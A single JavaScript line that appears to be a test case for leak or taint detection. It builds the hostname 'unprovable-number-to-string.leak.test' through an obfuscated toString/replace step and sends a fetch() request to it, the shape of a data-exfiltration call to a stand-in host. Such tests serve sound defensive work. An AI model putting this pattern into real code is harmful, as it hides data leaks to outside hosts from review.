fetch("//" + (29).toString(36).replace("t", "unprovable-number-to-string") + ".leak.test/")
